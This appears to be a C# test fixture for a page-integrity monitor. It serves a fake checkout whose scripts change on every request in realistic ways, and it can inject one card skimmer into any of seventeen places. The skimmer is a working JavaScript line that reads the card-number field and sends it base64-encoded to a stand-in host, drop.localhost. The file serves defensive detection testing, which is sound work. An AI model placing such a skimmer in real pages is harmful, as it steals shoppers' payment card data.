using System.Security.Cryptography;
using System.Text.RegularExpressions;
using Microsoft.AspNetCore.Http;
using PageShield.EndToEndTests.Crawls;

namespace PageShield.EndToEndTests.Noise;

/// <summary>
/// A checkout that differs on every request in the ways of real shops, without anything that changed: one class of difference per
/// <see cref="Places"/> entry. <see cref="Infected"/> puts the same plain skimmer into one of them.
/// </summary>
internal sealed partial class NoisyShop(FixtureSite site)
{
    public const string Host = "noise.localhost";

    /// <summary>Where a skimmer can be put.</summary>
    public static readonly IReadOnlyList<string> Places =
        ["ab", "tag", "jsonp", "jsonp-path", "tracker", "edge", "bot", "challenge", "bundle", "state", "flight", "settings", "experiment",
            "anonymous", "flaky", "layer", "recommend"];

    private readonly Dictionary<string, Func<HttpContext, string>> _files = [];
    private readonly List<string> _frames = [.. Enumerable.Range(0, 60).Select(static _ => $"{Number(1000000, 9999999)}.fls.localhost")];

    /// <summary>The number of the crawl, from 1: some differences come and go with it.</summary>
    public int Round { get; set; } = 1;

    /// <summary>One of <see cref="Places"/>; null for an honest shop.</summary>
    public string? Infected { get; set; }

    private int Port => site.Port;

    private string Skimmer =>
        $"document.addEventListener('change',function(){{var c=document.querySelector('[name=cc-number]');if(c&&c.value.length>12)new Image().src='http://drop.localhost:{Port}/x?c='+btoa(c.value)}},true);";

    /// <summary>Hosts that a crawler may reach; those that the tracker makes up cannot be known.</summary>
    public IEnumerable<string> Hosts =>
        [Host, "cdn.localhost", "drop.localhost", "edge1.ads.localhost", "edge2.ads.localhost", "edge3.ads.localhost", .. _frames];

    public NoisyShop Serve()
    {
        Serve("cdn.localhost/lib.js", _ => Library);
        Serve("cdn.localhost/design.js", _ => "window.design={load:function(){return document.querySelectorAll('[data-design]').length}};");
        Serve("cdn.localhost/ab.js", _ => (Round % 2 == 1
            ? "window.variant='A';document.documentElement.classList.add('variant-a');"
            : "window.variant='B';document.documentElement.classList.add('variant-b');document.addEventListener('DOMContentLoaded',function(){var b=document.querySelector('button');if(b)b.textContent='Buy now'});") + Evil("ab"));
        Serve("cdn.localhost/tag.js", _ =>
            $$"""(function(){var data={resource:{version:"{{40 + Round}}",macros:[{"function":"__e"},{"function":"__u","vtp_component":"URL"}],tags:[{"function":"__html","tag_id":{{Round}},"priority":0}],published:{{Now}} } };window.tagRun=function(e){return data.resource.macros.length+e} })();""" + Evil("tag"));
        Serve("cdn.localhost/jsonp",
            context => $$"""{{context.Request.Query["callback"]}}({"rates":{"EUR":1,"USD":{{Number(10000, 11000)}}e-4},"id":"{{Hex(8)}}"});"""
            + Evil("jsonp"));
        Serve("cdn.localhost/tracker.js", _ => $"(function(){{new Image().src='http://'+Math.random().toString(36).slice(2,14)+Math.random().toString(36).slice(2,8)+'.tm.localhost:{Port}/clear.png'}})();" + Evil("tracker"));
        Serve("cdn.localhost/flaky.js", _ => "window.reviews={stars:function(n){return '★'.repeat(n)}};" + Evil("flaky"));
        Serve("cdn.localhost/experiment.js", _ => $"window.experiment={{{string.Join(',', Enumerable.Range(0, Number(2, 7)).Select(each => $"\"{Hex(4)}\":{{\"name\":\"test {each}\",\"share\":{Number(1, 99)}}}"))}}};" + Evil("experiment"));
        Serve($"{Host}/cdn-cgi/main.js", _ => "window.cfRan=function(p){return p.r+p.t};");
        foreach (var edge in new[] { "edge1", "edge2", "edge3" })
            Serve($"{edge}.ads.localhost/serve.js", _ => "window.adServe=function(slot){return 'slot-'+slot};" + Evil("edge"));
        site.Answer($"{Host}/", PageAsync);
        site.Answer("drop.localhost/x", Empty);
        site.Otherwise(OtherwiseAsync);
        return this;
    }

    private const string Library = "window.libSri={version:\"1.0\"};";

    private static long Now => TimeProvider.System.GetUtcNow().ToUnixTimeMilliseconds();

    private static string Hex(int bytes) => Convert.ToHexStringLower(RandomNumberGenerator.GetBytes(bytes));

    private static string Word(int length) =>
        RandomNumberGenerator.GetString("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789", length);

    private static int Number(int from, int to) => RandomNumberGenerator.GetInt32(from, to);

    private static string Integrity(string text) => "sha384-" + Convert.ToBase64String(SHA384.HashData(System.Text.Encoding.UTF8.GetBytes(text)));

    private string Evil(string place, string before = "") => Infected == place ? before + Skimmer : "";

    private void Serve(string target, Func<HttpContext, string> text)
    {
        _files[target] = text;
        site.Answer(target, ScriptAsync);
    }

    private async Task ScriptAsync(HttpContext context)
    {
        var target = context.Request.Host.Host + context.Request.Path;
        if (target.EndsWith("flaky.js", StringComparison.Ordinal) && Round % 3 == 0 && Infected is null)
        {
            context.Response.StatusCode = 503;
            return;
        }

        context.Response.ContentType = "text/javascript";
        context.Response.Headers.AccessControlAllowOrigin = "*";
        await context.Response.WriteAsync(_files[target](context));
    }

    private static Task Empty(HttpContext context)
    {
        context.Response.StatusCode = 204;
        return Task.CompletedTask;
    }

    private async Task OtherwiseAsync(HttpContext context)
    {
        var (host, path) = (context.Request.Host.Host, context.Request.Path.Value ?? "/");
        var text = host switch
        {
            Host when BotPath.IsMatch(path) => Bot(),
            Host when path.StartsWith("/assets/app.", StringComparison.Ordinal) => Bundle(),
            "cdn.localhost" when path.StartsWith("/rates/", StringComparison.Ordinal) =>
                $"{path[7..]}({{\"id\":\"{Hex(6)}\",\"at\":{Now}}});" + Evil("jsonp-path"),
            "cdn.localhost" when path.StartsWith("/recommend/", StringComparison.Ordinal) =>
                $"window.recommend={{for:function(){{return {Number(1, 900)}}}}};" + Evil("recommend"),
            _ when host.EndsWith(".tm.localhost", StringComparison.Ordinal) || host.EndsWith(".fls.localhost", StringComparison.Ordinal) => "",
            _ => null,
        };
        context.Response.ContentType = host.EndsWith(".fls.localhost", StringComparison.Ordinal) ? "text/html" : "text/javascript";
        if (text is null) context.Response.StatusCode = 404;
        else await context.Response.WriteAsync(text);
    }

    /// <summary>A bot manager: another path, other names and other code on every visit.</summary>
    private string Bot()
    {
        var words = Enumerable.Range(0, 12).Select(_ => $"\"{Word(8)}\"");
        var (table, read, at, facts) = ("_" + Hex(3), "_" + Hex(3), "_" + Hex(3), "_" + Hex(3));
        return $$"""(function(){var {{table}}=[{{string.Join(',', words)}}];function {{read}}({{at}}){return {{table}}[{{at}}-{{Round * 7}}] }var {{facts}}=[navigator.userAgent.length,screen.width,new Date().getTimezoneOffset()];window['bm'+'ak']={s:function(){return btoa({{facts}}.join({{read}}({{Round * 7}}))) } };{{Evil("bot")}}})();""";
    }

    private string Bundle() =>
        $$"""
        /*! build {{Round}} {{TimeProvider.System.GetUtcNow():O}} */
        (self.webpackChunk=self.webpackChunk||[]).push([[{{(Round % 2 == 1 ? "931,244,17" : "17,931,244")}}],{1103:(e,t,r)=>{r.d(t,{price:()=>o});function o(e,t){return Math.round(e*(1+t)*100)/100 } } },e=>{ }]);{{Evil("bundle")}}
        """;

    private async Task PageAsync(HttpContext context)
    {
        var nonce = Word(22);
        context.Response.ContentType = "text/html; charset=utf-8";
        context.Response.Headers.ContentSecurityPolicy =
            $"script-src 'nonce-{nonce}' 'strict-dynamic' 'unsafe-inline' https: http:; object-src 'none'; base-uri 'none'";
        context.Response.Headers.Append("Set-Cookie", $"sess_{Hex(6)}={Hex(8)}; Path=/; HttpOnly");
        context.Response.Headers.Append("Set-Cookie", $"csrftoken={Word(24)}; Path=/");
        context.Response.Headers.Append("Set-Cookie", $"_dc_gtm_UA-{Number(1000000, 9999999)}-1=1; Path=/; Max-Age=60");
        await context.Response.WriteAsync(Page(nonce));
    }

    private string Page(string nonce)
    {
        var integrity =
            Integrity(Library) + (Round switch { 2 => " " + Integrity("next release"), 3 => "\n\t" + Integrity("next release"), _ => "" });
        if (Round == 4) integrity = integrity.Replace("sha384-", "sha384", StringComparison.Ordinal);
        var flights =
            string.Concat(Enumerable.Range(0, 2 + Round % 3)
            .Select(each =>
            Inline($$"""self.__next_f.push([1,"{{each}}:[\"$\",\"p\",null,{\"children\":\"{{Word(12)}} {{Now}}\"}]\n"])"""
            + (each == 1 ? Evil("flight", ";") : ""))));
        var products =
            string.Join(',',
            Enumerable.Range(0, 3 + Round)
            .Select(each => $$"""{"id":{{each}},"name":"Tea {{each}}","stock":{{Number(0, 90)}},"seen":"{{TimeProvider.System.GetUtcNow():O}}"}"""));
        var (callback, element) = ("jQuery3610" + Number(100000000, 999999999) + "_" + Now, "widget-" + Hex(5));
        return $$"""
            <!doctype html><html lang=en><head><title>Noise</title>
            {{Inline($"self.__next_f=self.__next_f||[];window.__nonce='{nonce}';window.csrf={{token:'{Word(32)}',at:{Now}}};")}}
            {{File($"http://cdn.localhost:{Port}/lib.js", $"integrity='{integrity}' crossorigin=anonymous")}}
            {{File($"/assets/app.{Hex(4)}.js")}}
            {{File($"http://cdn.localhost:{Port}/design.js?cb={Now}")}}
            {{File($"http://cdn.localhost:{Port}/ab.js")}}
            {{File($"http://cdn.localhost:{Port}/tag.js?id=TAG-7F3Q")}}
            {{File($"http://cdn.localhost:{Port}/tracker.js")}}
            {{File($"http://cdn.localhost:{Port}/flaky.js")}}
            {{File($"http://cdn.localhost:{Port}/experiment.js?visitor={Guid.NewGuid()}")}}
            {{File($"http://cdn.localhost:{Port}/rates/cb_{Now}")}}
            {{File($"http://cdn.localhost:{Port}/recommend/{Word(20)}/1.js")}}
            {{File($"http://edge{Number(1, 4)}.ads.localhost:{Port}/serve.js")}}
            {{File($"/{Word(8)}/{Word(6)}/{Word(10)}", "async")}}
            </head><body><h1>Checkout</h1>
            <form action="/pay" method=post><input name="email" type=email><input name="cc-number" autocomplete="cc-number"><input name="cc-exp" autocomplete="cc-exp"><input name="cc-csc" autocomplete="cc-csc"><input type=hidden name=_token value="{{Word(24)}}"><button>Pay</button></form>
            <div id="{{element}}"></div>
            {{flights}}
            {{Inline($"(function(){{var cb='{callback}';window[cb]=function(r){{window.rates=r}};var s=document.createElement('script');s.src='http://cdn.localhost:{Port}/jsonp?callback='+cb+'&_='+Date.now();document.head.appendChild(s)}})();")}}
            <script nonce="{{nonce}}" id="__STATE__">window.__STATE__={"products":[{{products}}],"session":"{{Hex(12)}}"};{{Evil("state")}}</script>
            {{Inline($"var shop_params={{\"ajax_url\":\"/wp-admin/admin-ajax.php\",\"nonce\":\"{Hex(5)}\",\"cart\":\"{Hex(16)}\"}};" + Evil("settings"))}}
            {{Inline($"window['cb_{Hex(4)}']=function(){{document.getElementById('{element}').dataset.ready='{Now}'}};" + Evil("anonymous"))}}
            {{Inline($"window.dataLayer=window.dataLayer||[];{string.Concat(Enumerable.Range(0, Number(1, 5)).Select(each => $"dataLayer.push({{event:'view_item',id:'{Hex(4)}',value:{Number(1, 99)}}});"))}" + Evil("layer"))}}
            {{Inline(Challenge(nonce))}}
            <iframe src="http://{{_frames[Number(0, _frames.Count)]}}:{{Port}}/activityi;src=1;ord={{Number(1, 99999)}}" width=1 height=1></iframe>
            </body></html>
            """;

        string Inline(string text) => $"<script nonce=\"{nonce}\">{text}</script>";
        string File(string address, string more = "") => $"<script nonce=\"{nonce}\" src=\"{address}\" {more}></script>";
    }

    /// <summary>A challenge that runs in a frame of its own, with values of this request.</summary>
    private string Challenge(string nonce)
    {
        var evil = Evil("challenge") is { Length: > 0 } skimmer
            ? "parent." + skimmer.Replace("document.querySelector", "parent.document.querySelector", StringComparison.Ordinal)
            : "";
        return $$"""(function(){function put(){var d=f.contentDocument||f.contentWindow.document;if(d){var s=d.createElement('script');s.nonce='{{nonce}}';s.innerHTML="window.__CF$cv$params={r:'{{Hex(8)}}',t:'{{Word(18)}}'};var a=document.createElement('script');a.nonce='{{nonce}}';a.src='/cdn-cgi/main.js';document.getElementsByTagName('head')[0].appendChild(a);{{evil}}";d.getElementsByTagName('head')[0].appendChild(s) } }var f=document.createElement('iframe');f.height=1;f.width=1;f.style.visibility='hidden';document.body.appendChild(f);put()})();""";
    }

    [GeneratedRegex("^/[A-Za-z0-9]{8}/[A-Za-z0-9]{6}/[A-Za-z0-9]{10}$")]
    private static partial Regex BotPath { get; }
}
